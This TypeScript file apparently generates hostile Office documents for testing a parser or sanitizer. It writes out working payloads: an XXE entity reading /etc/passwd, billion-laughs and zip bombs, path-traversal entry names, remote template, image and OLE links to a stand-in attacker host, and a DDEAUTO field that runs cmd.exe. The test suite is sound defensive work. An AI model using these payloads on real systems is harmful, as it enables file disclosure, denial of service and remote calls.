import { crc32, deflateRawSync } from 'node:zlib'
import type { Bomb } from './bombs.ts'
import { makeDocx } from './make/docx.ts'
import { createPlanter } from './make/planter.ts'
import { contentTypes, relations, writeZip, XML, type ZipPart } from './make/write-zip.ts'

const MEGABYTE = 1024 * 1024
const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
const EXCEL = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'
const SHEET = 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml'
const W =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
const S =
  'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
const ATTACKER = 'http://attacker.example/collect'

/** Packages that lie about their size, their names or their depth. */
export async function makeOfficeBombs(): Promise<Bomb[]> {
  const bombs: Bomb[] = []
  const add = (name: string, file: string, bytes: Uint8Array, mustVanish: readonly string[] = []) =>
    bombs.push({ name: `${file.split('.')[1]}: ${name}`, file, bytes, mustVanish })
  const body = (inner: string) => `${XML}<w:document ${W}><w:body>${inner}</w:body></w:document>`
  const paragraph = '<w:p><w:r><w:t>Hello</w:t></w:r></w:p>'

  add('300 MB of spaces', 'a.docx', await word(body(`${paragraph}${' '.repeat(300 * MEGABYTE)}`)))
  add('a size that is not true', 'a.docx', await lyingZip(200 * MEGABYTE, 100))
  add('one entry named 150,000 times', 'a.docx', await manyEntries(150_000))
  add('entries over each other', 'a.docx', await overlapping(3000, 10 * MEGABYTE))
  for (const name of [
    '../../../tmp/evil.xml',
    '/etc/evil.xml',
    'C:\\evil.xml',
    'word\\..\\evil.xml',
    'word/\0evil.xml',
  ]) {
    add(`entry named ${JSON.stringify(name)}`, 'a.docx', await namedEntry(name))
  }
  add(
    'two main parts',
    'a.docx',
    await word(body(paragraph), [
      { name: 'word/document.xml', data: body('<w:p><w:r><w:t>hiddentwin4711</w:t></w:r></w:p>') },
    ]),
    ['hiddentwin4711'],
  )
  add(
    'bytes before the archive',
    'a.docx',
    new Uint8Array(Buffer.concat([Buffer.from('PK\x03\x04 hiddenbefore4711'), await word(body(paragraph))])),
    ['hiddenbefore4711'],
  )
  add('bytes between the entries', 'a.docx', await gap('hiddengap4711'), ['hiddengap4711'])
  add(
    'external entity',
    'a.docx',
    await word(
      `<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document ${W}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>`,
    ),
  )
  const laughs = Array.from(
    { length: 12 },
    (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
  ).join('')
  add(
    'billion laughs',
    'a.docx',
    await word(
      `<!DOCTYPE w [<!ENTITY l0 "ha">${laughs}]><w:document ${W}><w:body><w:p><w:r><w:t>&l12;</w:t></w:r></w:p></w:body></w:document>`,
    ),
  )
  add('a million levels', 'a.docx', await word(body('<w:sdt><w:sdtContent>'.repeat(1_000_000))))
  add(
    '900 levels of tables',
    'a.docx',
    await word(
      body(`${'<w:tbl><w:tr><w:tc>'.repeat(300)}${paragraph}${'</w:tc></w:tr></w:tbl>'.repeat(300)}`),
    ),
  )
  add('300,000 paragraphs', 'a.docx', await word(body(paragraph.repeat(150_000))))
  add(
    '500,000 runs of a letter',
    'a.docx',
    await word(body(`<w:p>${'<w:r><w:t>a</w:t></w:r>'.repeat(500_000)}</w:p>`)),
  )
  add(
    'template from afar',
    'a.docx',
    await word(
      body(paragraph),
      [
        {
          name: 'word/settings.xml',
          data: `<w:settings ${W}><w:attachedTemplate r:id="rId1"/></w:settings>`,
        },
        {
          name: 'word/_rels/settings.xml.rels',
          data: relations([{ id: 'rId1', type: 'attachedTemplate', target: ATTACKER, external: true }]),
        },
      ],
      [{ id: 'rId5', type: 'settings', target: 'settings.xml' }],
    ),
    ['attackerexample'],
  )
  add(
    'picture from afar',
    'a.docx',
    await word(
      body(
        `${paragraph}<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rId6"/></w:drawing></w:r></w:p>`,
      ),
      [],
      [{ id: 'rId6', type: 'image', target: ATTACKER, external: true }],
    ),
    ['attackerexample'],
  )
  add(
    'frame from afar',
    'a.docx',
    await word(
      body(paragraph),
      [],
      [
        { id: 'rId7', type: 'frame', target: ATTACKER, external: true },
        { id: 'rId8', type: 'oleObject', target: ATTACKER, external: true },
        { id: 'rId9', type: 'subDocument', target: ATTACKER, external: true },
      ],
    ),
    ['attackerexample'],
  )
  add(
    'field that calls',
    'a.docx',
    await word(
      body(
        `<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;${ATTACKER}&quot; "/><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc4711&quot; "/></w:p>`,
      ),
    ),
    ['calc4711', 'attackerexample'],
  )
  add(
    'macros',
    'a.docx',
    await word(
      body(paragraph),
      [{ name: 'word/vbaProject.bin', data: Buffer.from('\xD0\xCF\x11\xE0macro4711', 'latin1') }],
      [
        {
          id: 'rId3',
          type: 'http://schemas.microsoft.com/office/2006/relationships/vbaProject',
          target: 'vbaProject.bin',
        },
      ],
    ),
    ['macro4711'],
  )
  add(
    'relations in a circle',
    'a.docx',
    await word(
      body(paragraph),
      [
        {
          name: 'word/_rels/header1.xml.rels',
          data: relations([
            { id: 'rId1', type: 'header', target: 'header1.xml' },
            { id: 'rId2', type: 'officeDocument', target: 'document.xml' },
          ]),
        },
        { name: 'word/header1.xml', data: `<w:hdr ${W}>${paragraph}</w:hdr>` },
      ],
      [
        { id: 'rId2', type: 'header', target: 'header1.xml' },
        { id: 'rId4', type: 'officeDocument', target: 'document.xml' },
      ],
    ),
  )
  add(
    'picture of 100,000 × 100,000',
    'a.docx',
    await word(
      body(
        `${paragraph}<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:embed="rId6"/></w:drawing></w:r></w:p>`,
      ),
      [{ name: 'word/media/image1.png', data: floodedPng() }],
      [{ id: 'rId6', type: 'image', target: 'media/image1.png' }],
    ),
  )
  let inner: Uint8Array = (await makeDocx(createPlanter(1, 0.1))).bytes
  for (let index = 0; index < 40; index++) {
    inner = await word(
      body(paragraph),
      [{ name: 'word/embeddings/inner.docx', data: inner, stored: true }],
      [{ id: 'rId6', type: 'package', target: 'embeddings/inner.docx' }],
    )
  }
  add('files in files, 40 deep', 'a.docx', inner)
  const wide = await word(body(`${paragraph}${' '.repeat(20 * MEGABYTE)}`))
  add(
    'a hundred files of 20 MB inside',
    'a.docx',
    await word(
      body(paragraph),
      Array.from({ length: 100 }, (_, index) => ({
        name: `word/embeddings/e${index}.docx`,
        data: wide,
        stored: true,
      })),
      Array.from({ length: 100 }, (_, index) => ({
        id: `rId1${index}`,
        type: 'package',
        target: `embeddings/e${index}.docx`,
      })),
    ),
  )
  add(
    'under a password',
    'a.docx',
    new Uint8Array(
      Buffer.concat([
        Buffer.from('d0cf11e0a1b11ae1', 'hex'),
        Buffer.alloc(600),
        Buffer.from('EncryptedPackage', 'utf16le'),
        Buffer.alloc(600),
      ]),
    ),
  )

  const cells = (inner: string, extras = '') =>
    `${XML}<worksheet ${S}>${extras}<sheetData>${inner}</sheetData></worksheet>`
  add(
    'cells at the far end',
    'a.xlsx',
    await excel(
      cells(
        '<row r="1048576" spans="1:16384"><c r="XFD1048576"><v>1</v></c></row>',
        '<dimension ref="A1:XFD1048576"/><cols><col min="1" max="16384" width="9"/></cols>',
      ).replace('</worksheet>', '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>'),
    ),
  )
  add(
    '500,000 cells',
    'a.xlsx',
    await excel(
      cells(
        Array.from(
          { length: 50_000 },
          (_, row) => `<row r="${row + 1}">${'<c><v>1</v></c>'.repeat(10)}</row>`,
        ).join(''),
      ),
    ),
  )
  add(
    'ten million cells',
    'a.xlsx',
    await excel(cells(`<row r="1">${'<c><v>1</v></c>'.repeat(100)}</row>`.repeat(70_000))),
  )
  add(
    'one text used by 300,000 cells',
    'a.xlsx',
    await excel(
      cells(`<row r="1">${'<c t="s"><v>0</v></c>'.repeat(300_000)}</row>`),
      [
        {
          name: 'xl/sharedStrings.xml',
          data: `<sst ${S} count="4294967295" uniqueCount="4294967295"><si><t>${'x'.repeat(10_000)}</t></si></sst>`,
        },
      ],
      [{ id: 'rId5', type: 'sharedStrings', target: 'sharedStrings.xml' }],
    ),
  )
  add(
    'texts that are not there',
    'a.xlsx',
    await excel(
      cells(
        '<row r="1"><c r="A1" t="s"><v>4294967295</v></c><c r="B1" t="s"><v>-1</v></c><c r="C1" t="s"><v>x</v></c></row>',
      ),
    ),
  )
  add(
    'formula of a megabyte',
    'a.xlsx',
    await excel(
      cells(
        `<row r="1"><c r="A1"><f>${'('.repeat(500_000)}${'&quot;a&quot;&amp;'.repeat(20_000)}</f><v>1</v></c></row>`,
      ),
    ),
  )
  add(
    'number of 900,000 digits',
    'a.xlsx',
    await excel(
      cells(`<row r="1"><c r="A1"><v>${'1'.repeat(900_000)}</v></c><c r="B1"><v>1E999999999</v></c></row>`),
    ),
  )
  add(
    'print header of a megabyte',
    'a.xlsx',
    await excel(
      cells('').replace(
        '</worksheet>',
        `<headerFooter><oddHeader>${'&amp;&amp;C&amp;"'.repeat(60_000)}</oddHeader></headerFooter></worksheet>`,
      ),
    ),
  )
  return bombs
}

function word(
  document: string,
  parts: readonly ZipPart[] = [],
  links: Parameters<typeof relations>[0] = [],
): Promise<Uint8Array> {
  return writeZip(wordParts(document, parts, links))
}

function wordParts(
  document: string,
  parts: readonly ZipPart[] = [],
  links: Parameters<typeof relations>[0] = [],
): ZipPart[] {
  const defaults = {
    rels: 'application/vnd.openxmlformats-package.relationships+xml',
    xml: 'application/xml',
    png: 'image/png',
    bin: 'application/vnd.ms-office.vbaProject',
    docx: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  }
  const overrides: Record<string, string> = { 'word/document.xml': WORD }
  if (parts.some((part) => part.name === 'word/settings.xml'))
    overrides['word/settings.xml'] = WORD.replace('document.main', 'settings')
  if (parts.some((part) => part.name === 'word/header1.xml'))
    overrides['word/header1.xml'] = WORD.replace('document.main', 'header')
  return [
    { name: '[Content_Types].xml', data: contentTypes(defaults, overrides) },
    {
      name: '_rels/.rels',
      data: relations([{ id: 'rId1', type: 'officeDocument', target: 'word/document.xml' }]),
    },
    { name: 'word/document.xml', data: document },
    { name: 'word/_rels/document.xml.rels', data: relations(links) },
    ...parts,
  ]
}

function excel(
  sheet: string,
  parts: readonly ZipPart[] = [],
  links: Parameters<typeof relations>[0] = [],
): Promise<Uint8Array> {
  const defaults = {
    rels: 'application/vnd.openxmlformats-package.relationships+xml',
    xml: 'application/xml',
  }
  const overrides: Record<string, string> = { 'xl/workbook.xml': EXCEL, 'xl/worksheets/sheet1.xml': SHEET }
  if (parts.length > 0) overrides['xl/sharedStrings.xml'] = SHEET.replace('worksheet', 'sharedStrings')
  return writeZip([
    { name: '[Content_Types].xml', data: contentTypes(defaults, overrides) },
    {
      name: '_rels/.rels',
      data: relations([{ id: 'rId1', type: 'officeDocument', target: 'xl/workbook.xml' }]),
    },
    {
      name: 'xl/workbook.xml',
      data: `${XML}<workbook ${S}><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      data: relations([{ id: 'rId1', type: 'worksheet', target: 'worksheets/sheet1.xml' }, ...links]),
    },
    { name: 'xl/worksheets/sheet1.xml', data: sheet },
    ...parts,
  ])
}

function floodedPng(): Buffer {
  const header = Buffer.alloc(33)
  header.write('\x89PNG\r\n\x1a\n', 0, 'latin1')
  header.writeUInt32BE(13, 8)
  header.write('IHDR', 12, 'latin1')
  header.writeUInt32BE(100_000, 16)
  header.writeUInt32BE(100_000, 20)
  header.set([8, 2, 0, 0, 0], 24)
  header.writeUInt32BE(crc32(header.subarray(12, 29)), 29)
  return header
}

interface RawEntry {
  name: string
  packed: Buffer
  crc: number
  size: number
  /** Where its local header is, if it shares one. */
  at?: number
}

/** Zip by hand, for what no honest writer writes. */
function rawZip(entries: readonly RawEntry[], between = ''): Uint8Array {
  const chunks: Buffer[] = []
  const directory: Buffer[] = []
  let length = 0
  for (const { name, packed, crc, size, at } of entries) {
    const encoded = Buffer.from(name)
    const start = at ?? length
    const common = Buffer.alloc(26)
    common.writeUInt16LE(20, 0)
    common.writeUInt16LE(8, 4)
    common.writeUInt32LE(crc, 10)
    common.writeUInt32LE(packed.length, 14)
    common.writeUInt32LE(size, 18)
    common.writeUInt16LE(encoded.length, 22)
    if (at === undefined) {
      const local = Buffer.concat([
        Buffer.from('PK\x03\x04', 'latin1'),
        common,
        encoded,
        packed,
        Buffer.from(between),
      ])
      chunks.push(local)
      length += local.length
    }
    const central = Buffer.alloc(46)
    central.write('PK\x01\x02', 0, 'latin1')
    central.writeUInt16LE(20, 4)
    common.copy(central, 6)
    central.writeUInt32LE(start, 42)
    directory.push(central, encoded)
  }
  const listing = Buffer.concat(directory)
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 0, 'latin1')
  const count = Math.min(entries.length, 0xffff)
  end.writeUInt16LE(count, 8)
  end.writeUInt16LE(count, 10)
  end.writeUInt32LE(listing.length, 12)
  end.writeUInt32LE(length, 16)
  const tail: Buffer[] = []
  if (entries.length > 0xfffe) {
    const wide = Buffer.alloc(56)
    wide.write('PK\x06\x06', 0, 'latin1')
    wide.writeBigUInt64LE(44n, 4)
    wide.writeBigUInt64LE(BigInt(entries.length), 24)
    wide.writeBigUInt64LE(BigInt(entries.length), 32)
    wide.writeBigUInt64LE(BigInt(listing.length), 40)
    wide.writeBigUInt64LE(BigInt(length), 48)
    const locator = Buffer.alloc(20)
    locator.write('PK\x06\x07', 0, 'latin1')
    locator.writeBigUInt64LE(BigInt(length + listing.length), 8)
    locator.writeUInt32LE(1, 16)
    tail.push(wide, locator)
  }
  return new Uint8Array(Buffer.concat([...chunks, listing, ...tail, end]))
}

function packed(name: string, data: Buffer): RawEntry {
  return { name, packed: deflateRawSync(data), crc: crc32(data), size: data.length }
}

const honest = (): RawEntry[] =>
  wordParts(
    `${XML}<w:document ${W}><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>`,
  ).map((part) => packed(part.name, Buffer.from(part.data as string)))

async function lyingZip(realSize: number, toldSize: number): Promise<Uint8Array> {
  return rawZip([...honest(), { ...packed('word/big.xml', Buffer.alloc(realSize, ' ')), size: toldSize }])
}

async function manyEntries(count: number): Promise<Uint8Array> {
  const base = honest()
  const shared = { ...packed('x', Buffer.from('x')), at: 0 }
  return rawZip([...base, ...Array.from({ length: count }, (_, index) => ({ ...shared, name: `p${index}` }))])
}

async function overlapping(count: number, size: number): Promise<Uint8Array> {
  const base = honest()
  const big = packed('word/a.xml', Buffer.alloc(size, ' '))
  const at = base.reduce((sum, entry) => sum + 30 + Buffer.byteLength(entry.name) + entry.packed.length, 0)
  return rawZip([
    ...base,
    big,
    ...Array.from({ length: count }, (_, index) => ({ ...big, name: `word/a${index}.xml`, at })),
  ])
}

async function namedEntry(name: string): Promise<Uint8Array> {
  return rawZip([...honest(), packed(name, Buffer.from('<a/>'))])
}

async function gap(text: string): Promise<Uint8Array> {
  return rawZip(honest(), text)
}
